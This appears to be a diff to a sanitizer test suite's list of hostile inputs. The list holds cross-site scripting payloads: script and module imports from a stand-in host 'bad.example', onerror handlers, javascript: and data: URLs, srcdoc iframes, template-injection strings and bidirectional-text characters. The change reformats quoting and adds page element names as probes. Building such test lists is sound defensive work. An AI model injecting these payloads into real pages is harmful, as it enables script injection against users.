@@ -12,14 +12,14 @@ ATTACKS = (
     "<SCRIPT/SRC=//bad.example/x.js></SCRIPT>",
     "<scr<script>ipt>alert(1)</scr</script>ipt>",
     '<script type="module">import "https://bad.example/x.js"</script>',
-    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
+    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
     # elements that load or run by themselves
     "<img src=x onerror=alert(1)>",
     '<img src="https://bad.example/pixel.gif">',
     '<img srcset="https://bad.example/a 1x, https://bad.example/b 2x">',
     "<video poster=//bad.example/p><source onerror=alert(1)></video>",
     "<audio src=//bad.example/a autoplay onerror=alert(1)>",
-    "<iframe srcdoc=\"<script>parent.alert(1)</script>\"></iframe>",
+    '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
     "<iframe src=javascript:alert(1)>",
     "<object data=data:text/html,<script>alert(1)</script>></object>",
     "<embed src=//bad.example/x.swf>",
@@ -107,6 +107,9 @@ ATTACKS = (
     "{{constructor.constructor('alert(1)')()}}",
     "__proto__",
     "constructor",
+    # the page's own names
+    "status",
+    "#claim-proposals-0",
     # characters
     "\u202egnirtsed\u202c",
     "\u2066isolated and never closed",
